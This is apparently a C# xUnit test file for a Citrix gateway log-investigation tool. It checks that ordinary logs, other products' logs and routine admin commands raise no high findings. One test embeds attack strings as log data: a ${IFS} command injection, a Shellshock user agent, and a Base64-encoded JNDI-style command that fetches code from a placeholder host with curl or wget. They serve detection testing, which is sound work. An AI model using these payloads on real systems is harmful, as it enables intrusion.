using System;
using System.Collections.Generic;
using System.Linq;
using CitrixOps.Indicators;
using CitrixOps.Investigation;
using CitrixOps.Logs;
using CitrixOps.SampleCases;
using CitrixOps.SampleCases.Ordinary;
using Xunit;

namespace CitrixOps.Tests.Investigation;

/// <summary>Nobody is woken by an ordinary month, nor by the logs of other products.</summary>
public sealed class OrdinaryLogsTests
{
    // how lines arrive: from the disk, from two kinds of relays, out of a search
    private static readonly Dictionary<string, Func<string, string>> Ways = new(StringComparer.Ordinal)
    {
        ["disk"] = l => l,
        ["relay"] = l => "<134>1 2026-03-01T00:03:00Z gw-raadhuis relay 9 - - " + l,
        ["head"] = l => "2026-03-01T01:03:00+01:00 relay " + l,
        ["grep"] = l => "/var/log/old.log.3.gz:" + l,
        ["windows"] = l => l + "\r",
    };

    public static IEnumerable<object[]> Months() => OrdinaryMonth.All(3).SelectMany(m => Ways.Keys.Where(w => w == "disk" || m.Form.Length == 0 || m.Form is "new" or "seconds" or "bash" or "Ordinary").Select(w => new object[] { m.LogType, m.Form, w }));

    [Fact]
    public void Every_log_has_an_ordinary_month() => Assert.Equal(LogTypes.All.Order(StringComparer.Ordinal), OrdinaryMonth.All(3).Select(m => m.LogType).Distinct().Order(StringComparer.Ordinal));

    [Theory]
    [MemberData(nameof(Months))]
    public void An_ordinary_month_has_no_finding_above_low(string type, string form, string way)
    {
        // the month as it lies on the disk, a week of it in other ways
        var lines = OrdinaryMonth.All(3).Single(m => m.LogType == type && m.Form == form).Lines().Where(l => way == "disk" || l.Time < OrdinaryMonth.Start.AddDays(7)).OrderBy(l => l.Time).Select(l => Ways[way](l.Text)).ToList();
        Assert.True(lines.Count > (way == "disk" ? 600 : 120), $"{lines.Count} lines");
        AssertQuiet(type, lines, OrdinaryMonth.Configuration);
    }

    [Fact]
    public void An_ordinary_month_of_a_pair_is_no_trace_of_anything()
    {
        using var folder = new TemporaryFolder();
        var first = OrdinaryMonth.Node(3, "gw-1", "192.0.2.10", "192.0.2.11").WriteTarGz(folder.Path, "collector_P_192.0.2.10_1Apr2026_00_00");
        var second = OrdinaryMonth.Node(4, "gw-2", "192.0.2.11", "192.0.2.10").WriteTarGz(folder.Path, "collector_S_192.0.2.11_1Apr2026_00_05");
        var problems = new Problems();

        var result = Assert.Single(Shipped.Search(problems, new InvestigationOptions { Since = OrdinaryMonth.Start.AddDays(2), Until = OrdinaryMonth.End.AddDays(-1) }, first, second));

        Assert.Empty(result.Findings.Where(f => f.Severity > Severity.Low).Select(f => f.IndicatorId + ": " + f.Excerpt + f.Reason));
        Assert.Empty(problems.Reported.Select(p => p.ToString()));
        Assert.Equal(20, result.Coverage.Count(c => c.Covers == CoverageAnswer.True));
        Assert.Empty(result.Findings.Where(f => f.Grade != Grade.Pivot).Select(f => f.IndicatorId + ": " + f.Excerpt));
        Assert.Equal(InvestigationVerdict.NoTrace, result.Verdict);
    }

    [Theory]
    [InlineData("pfirewall")]
    [InlineData("iptables")]
    [InlineData("asa")]
    [InlineData("fortigate")]
    [InlineData("cef")]
    public void A_gateway_that_goes_inward_by_itself_is_found_among_the_users_of_its_vpn(string type)
    {
        var month = OrdinaryMonth.All(3).Single(m => m.LogType == type).Lines().Select(l => l.Text).ToList();
        var users = Search(type, month, OrdinaryMonth.Configuration);
        Assert.Contains(users, f => f.IndicatorId == "gateway-or-users-inward");

        // the same connections where users get no more than ICA, or from the management address
        Assert.Contains(Search(type, month, OrdinaryMonth.Configuration.Replace("203.0.113.10 443", "203.0.113.10 443 -icaOnly ON", StringComparison.Ordinal)), f => f.IndicatorId == "gateway-sweeps-inward");
        Assert.Contains(Search(type, month, OrdinaryMonth.Configuration.Replace("-icaProxy OFF", "-icaProxy ON", StringComparison.Ordinal)), f => f.IndicatorId == "gateway-sweeps-inward");
        Assert.Contains(Search(type, [.. month.Select(l => l.Replace("10.1.0.11", "10.1.0.10", StringComparison.Ordinal))], OrdinaryMonth.Configuration), f => f.IndicatorId == "gateway-sweeps-inward");
    }

    [Fact]
    public void The_logs_of_other_products_have_none()
    {
        var lines = OtherProducts.Lines(3).ToList();
        foreach (var type in LogTypes.All)
        {
            AssertQuiet(type, lines);
        }
    }

    [Fact]
    public void The_logs_of_a_gateway_where_nothing_happened_have_none()
    {
        using var folder = new TemporaryFolder();
        var options = new CaseOptions { RequestsPerDay = 200 };
        var path = GatewayCase.Build(options).WriteTarGz(folder.Path, options.RootName);
        var findings = Shipped.Search(new Problems(), new InvestigationOptions(), path).SelectMany(r => r.Findings);

        Assert.Empty(findings.Where(f => f.Severity > Severity.Low).Select(f => f.IndicatorId + ": " + f.Excerpt));
    }

    [Theory]
    [InlineData("/index.php?login=$(echo${IFS}x)", "x")]
    [InlineData("/?a=%24%7BIFS%7D", "() { :; }; /bin/sh -c id")]
    [InlineData("/", "x:lookup/Basic/Command/Base64/KGN1cmwgLXMgMTkyLjAuMi4xL2F8fHdnZXQgLXEgMTkyLjAuMi4xL2Ep")]
    public void Attacks_on_other_products_wake_nobody(string path, string agent) =>
        AssertQuiet(LogTypes.HttpAccess, [$"198.51.100.7 - - [12/Jan/2026:03:14:07 +0100] \"GET {path} HTTP/1.1\" 200 143 \"-\" \"{agent}\""]);

    [Fact]
    public void What_administrators_type_wakes_nobody()
    {
        string[] commands =
        [
            "ls -la /var/nslog", "cd /var/log && ls -ltr", "tail -f /var/log/ns.log", "grep -E \"AAA|SSLVPN\" /var/log/ns.log | tail -50", "zgrep -i 'login failed' /var/log/ns.log.*.gz", "awk '{print $1, $7}' /var/log/httpaccess.log | sort | uniq -c",
            "sed -i.bak 's/^#Port 22/Port 22/' /nsconfig/sshd_config", "tar -czf /var/tmp/backup_20260101.tgz /nsconfig", "cp -p /nsconfig/ns.conf /nsconfig/ns.conf.old", "chmod 755 /var/tmp/check.sh", "chmod 600 /nsconfig/ssl/gw.key", "chmod +x /nsconfig/rc.netscaler",
            "openssl req -new -newkey rsa:2048 -nodes -keyout gw.key -out gw.csr", "openssl x509 -in \"/nsconfig/ssl/gw.cer\" -noout -dates", "nsconmsg -K /var/nslog/newnslog -d event", "nsconmsg -d current -g pol_hits", "nscli -U %%:.:. show ns version", "nsapimgr -d allvservers",
            "for i in 1 2 3; do ping -c 3 10.0.0.$i; done", "find /var/core -name '*.gz' -mtime +30 -print", "df -h; du -sh /var/*", "ps aux | grep httpd", "top -b -d 1 | head -20", "vi /nsconfig/rc.netscaler", "scp ns.tgz admin@10.0.0.5:/backup/", "tcpdump -ni 0/1 -w /var/nstrace/a.cap",
            "echo \"done\" >> /var/tmp/backup.log", "echo \"\" > /var/tmp/x", "printf '%s\\n' one two", "date; uptime", "dmesg | tail", "sysctl netscaler.descr", "netstat -rn", "cat /nsconfig/ns.conf | grep 'add vpn vserver'", "more /var/log/messages", "gzip -9 /var/tmp/old.log", "mkdir -p /var/tmp/ctx && cd /var/tmp/ctx",
            "./installns -Y", "shell", "showtechsupport.pl", "exit", "su - nsroot", "crontab -l", "kill -HUP `cat /var/run/syslogd.pid`", "ssh nsroot@10.0.0.2 'show ha node'", "perl -e 'print scalar localtime'", "test -f /var/run/x && echo yes", "if [ -f /flash/boot/loader.conf ]; then cat /flash/boot/loader.conf; fi",
        ];
        AssertQuiet(LogTypes.Shell, [.. commands.SelectMany((c, i) => new[] { "root on /dev/pts/0", "nsroot on /dev/pts/1", "root on (null)" }.Select(u => $"Jan {1 + (i % 28),2} 10:{i % 60:00}:14 <local7.notice> gw bash[1297]: {u} shell_command=\"{c}\""))]);
        AssertQuiet(LogTypes.Cron, [.. new[] { "newsyslog", "/usr/libexec/atrun", "/netscaler/nsfsyncd -p", "/netscaler/ns_monuploadd_err.pl", "/bin/sh /nsconfig/cleanup.sh \"daily\"", "/netscaler/nslog_rotate.sh > /dev/null 2>&1" }
            .Select(c => $"Jan 12 03:14:07 <cron.info> ns /usr/sbin/cron[14451]: (root) CMD ({c})")]);
    }

    private static void AssertQuiet(string type, List<string> lines, string? configuration = null) =>
        Assert.Empty(Search(type, lines, configuration).Where(f => f.Severity > Severity.Low).Select(f => type + " " + f.IndicatorId + ": " + f.Excerpt));

    private static List<Finding> Search(string type, List<string> lines, string? configuration)
    {
        using var folder = new TemporaryFolder();
        folder.File("month.txt", string.Join("\n", lines) + "\n");
        if (configuration is not null)
        {
            folder.File("ns.conf", configuration);
        }

        var results = Shipped.Search(new Problems(), new InvestigationOptions { LogType = type, Since = new DateTimeOffset(2020, 1, 1, 0, 0, 0, TimeSpan.Zero) }, folder.Path);
        Assert.Equal(lines.Count + (configuration?.TrimEnd().Split('\n').Length ?? 0), results.Sum(r => r.Lines));
        return [.. results.SelectMany(r => r.Findings)];
    }
}
